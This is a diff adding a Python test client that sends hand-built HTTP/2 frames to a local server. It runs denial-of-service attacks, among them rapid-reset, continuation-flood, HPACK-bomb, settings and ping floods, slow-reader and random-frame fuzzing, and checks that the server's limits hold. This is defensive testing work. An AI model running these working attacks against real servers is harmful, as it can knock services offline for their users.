@@ -1,0 +1,213 @@
+"""h2-hostile.py — a hostile HTTP/2 client for tests/e2e/h2.t.
+
+Usage: h2-hostile.py PORT AUTHORITY ATTACK
+
+Speaks h2c (prior knowledge) to 127.0.0.1:PORT with frames made by hand
+(RFC 9113 4.1; header blocks as HPACK literals, RFC 7541 6.2), runs one
+ATTACK, then reads what the server sends until it closes or 10 s pass, and
+prints one line:
+  goaway CODE MS    a GOAWAY with that error code came, MS ms after the start
+  closed MS         the connection closed (or was reset) with no GOAWAY
+  served MS         (few-resets) the request after the resets was answered
+  open              neither happened within 10 s (the limit did not hold)
+Attacks: rapid-reset, made-you-reset, settings-flood, ping-flood, continuation-flood,
+big-headers, hpack-bomb, trailer-bomb; slow-reader opens 100 streams of large answers,
+reads nothing for 3 s and prints "stalled"; garbage opens 200 connections,
+each sending 40 random frames (random types, flags, streams, payloads, now
+and then a valid header block) and prints "done"; few-resets is the control: resets under the
+limit, then a request on the same connection.
+"""
+import random
+import socket
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
+END_STREAM, END_HEADERS = 0x1, 0x4
+
+
+def frame(ftype, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
+        struct.pack(">I", stream & 0x7FFFFFFF) + payload
+
+
+def hpack_int(value, prefix_bits, first=0):
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first | value])
+    out = [first | limit]
+    value -= limit
+    while value >= 128:
+        out.append((value & 0x7F) | 0x80)
+        value >>= 7
+    out.append(value)
+    return bytes(out)
+
+
+def literal(name, value, indexed=False):
+    """A literal field with a literal name: without indexing (0x00), or with
+    incremental indexing (0x40: it enters the dynamic table)."""
+    n, v = name.encode(), value.encode()
+    return bytes([0x40 if indexed else 0x00]) + hpack_int(len(n), 7) + n + \
+        hpack_int(len(v), 7) + v
+
+
+def request_block(authority, extra=b""):
+    return literal(":method", "GET") + literal(":scheme", "http") + \
+        literal(":path", "/") + literal(":authority", authority) + extra
+
+
+LAST = 0x7FFFFFFF  # the stream whose answer watch() waits for (few-resets)
+
+
+def attack(sock, name, authority):
+    global LAST
+    send = sock.sendall
+    if name in ("rapid-reset", "few-resets"):
+        # Open a stream and reset it at once, again and again.
+        batch = []
+        count = 5000 if name == "rapid-reset" else 150
+        for i in range(count):
+            sid = 1 + 2 * i
+            batch.append(frame(HEADERS, END_HEADERS, sid, request_block(authority)))
+            batch.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))  # CANCEL
+            if len(batch) >= 200:
+                send(b"".join(batch))
+                batch = []
+        if name == "few-resets":
+            LAST = 1 + 2 * count
+            batch.append(frame(HEADERS, END_HEADERS | END_STREAM, LAST, request_block(authority)))
+        send(b"".join(batch))
+    elif name == "slow-reader":
+        # 100 streams of 50 MB each, and not a byte read: the router must
+        # stop reading its upstreams, not buffer their answers.
+        send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i,
+                            literal(":method", "GET") + literal(":scheme", "http") +
+                            literal(":path", "/big?bytes=50000000") +
+                            literal(":authority", authority)) for i in range(100)))
+        time.sleep(3)
+        print("stalled")
+        sys.exit(0)
+    elif name == "made-you-reset":
+        # Streams the server must reset itself, not the client: a request
+        # with a connection-specific field (a stream error, RFC 9113 8.2.2).
+        batch = []
+        bad = request_block(authority, literal("connection", "close"))
+        for i in range(5000):
+            batch.append(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, bad))
+            if len(batch) >= 200:
+                send(b"".join(batch))
+                batch = []
+        send(b"".join(batch))
+    elif name == "settings-flood":
+        send(frame(SETTINGS, 0, 0) * 20000)
+    elif name == "ping-flood":
+        send(frame(PING, 0, 0, b"12345678") * 20000)
+    elif name == "continuation-flood":
+        # A header block that never ends: CONTINUATION after CONTINUATION.
+        send(frame(HEADERS, 0, 1, request_block(authority)))
+        for i in range(5000):
+            send(frame(CONTINUATION, 0, 1, literal("x-flood-%d" % i, "y")))
+    elif name == "big-headers":
+        # One header list far past SETTINGS_MAX_HEADER_LIST_SIZE, in frames
+        # each under the default 16 KiB.
+        block = request_block(authority, literal("x-big", "a" * 60000))
+        chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
+        send(frame(HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), 1, chunks[0]))
+        for i, c in enumerate(chunks[1:], 1):
+            send(frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, 1, c))
+    elif name == "hpack-bomb":
+        # A 4000-byte field enters the dynamic table once; then each one-byte
+        # reference to it (index 62) decodes to 4000 bytes again.
+        block = request_block(authority, literal("x-bomb", "b" * 4000, indexed=True) +
+                              bytes([0x80 | 62]) * 2000)
+        send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
+    elif name == "trailer-bomb":
+        # The same bomb in the trailers of a POST.
+        send(frame(HEADERS, END_HEADERS, 1, literal(":method", "POST") +
+                   literal(":scheme", "http") + literal(":path", "/echo") +
+                   literal(":authority", authority)) + frame(DATA, 0, 1, b"x"))
+        block = literal("x-bomb", "b" * 4000, indexed=True) + bytes([0x80 | 62]) * 2000
+        send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
+    else:
+        raise SystemExit("unknown attack %r: want rapid-reset, made-you-reset, few-resets, slow-reader, garbage,"
+                         " settings-flood, ping-flood, continuation-flood, big-headers,"
+                         " hpack-bomb or trailer-bomb" % name)
+
+
+def watch(sock, t0):
+    """Frames from the server until a GOAWAY, the close, or 10 s."""
+    buf = b""
+    deadline = t0 + 10
+    while time.monotonic() < deadline:
+        sock.settimeout(max(0.01, deadline - time.monotonic()))
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            break
+        except OSError:
+            data = b""
+        if not data:
+            return "closed %d" % ((time.monotonic() - t0) * 1000)
+        buf += data
+        while len(buf) >= 9:
+            length = int.from_bytes(buf[0:3], "big")
+            if len(buf) < 9 + length:
+                break
+            ftype, payload = buf[3], buf[9:9 + length]
+            sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
+            buf = buf[9 + length:]
+            if ftype == HEADERS and sid == LAST:
+                return "served %d" % ((time.monotonic() - t0) * 1000)
+            if ftype == GOAWAY:
+                code = struct.unpack(">I", payload[4:8])[0]
+                return "goaway %d %d" % (code, (time.monotonic() - t0) * 1000)
+    return "open"
+
+
+def garbage(port, authority):
+    rnd = random.Random(9113)
+    for _ in range(200):
+        frames = []
+        for _ in range(40):
+            sid = rnd.choice([0, 1, 3, 5, rnd.randrange(1 << 31)])
+            if rnd.random() < 0.3:
+                frames.append(frame(HEADERS, rnd.choice([4, 5, 0, 0x24, 0x2d]), sid,
+                                    request_block(authority)))
+            else:
+                payload = bytes(rnd.randrange(256) for _ in range(rnd.choice([0, 4, 5, 8, 9, 30])))
+                frames.append(frame(rnd.randrange(11), rnd.randrange(256), sid, payload))
+        try:
+            sock = socket.create_connection(("127.0.0.1", port), timeout=2)
+            sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + b"".join(frames))
+            sock.settimeout(0.05)
+            try:
+                sock.recv(65536)
+            except OSError:
+                pass
+            sock.close()
+        except OSError:
+            pass
+    print("done")
+
+
+def main():
+    if len(sys.argv) != 4:
+        raise SystemExit("usage: h2-hostile.py PORT AUTHORITY ATTACK")
+    port, authority, name = int(sys.argv[1]), sys.argv[2], sys.argv[3]
+    if name == "garbage":
+        garbage(port, authority)
+        return
+    t0 = time.monotonic()
+    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
+    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    try:
+        attack(sock, name, authority)
+    except OSError:
+        pass  # the server cut us off in the middle: watch() tells how
+    print(watch(sock, t0))
+
+
+main()
